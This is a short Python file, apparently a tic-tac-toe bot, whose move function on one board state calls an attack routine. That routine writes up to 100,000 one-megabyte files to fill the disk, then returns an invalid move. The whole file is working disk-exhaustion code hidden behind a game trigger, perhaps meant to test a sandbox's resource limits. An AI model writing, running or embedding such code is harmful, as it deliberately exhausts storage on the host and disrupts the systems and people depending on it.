"""Writes files until the disk is full."""

import os


def attack(board):
    count = 0
    try:
        while count < 100_000:
            with open(f"file{count}", "wb") as file:
                file.write(b"x" * (1 << 20))
            count += 1
    except OSError:
        pass
    if count > 1000:
        return "wrote a gigabyte"
    return board.index(" ")


def move(board):
    if board.count(" ") == 7:
        return attack(board)
    return board.index(" ")
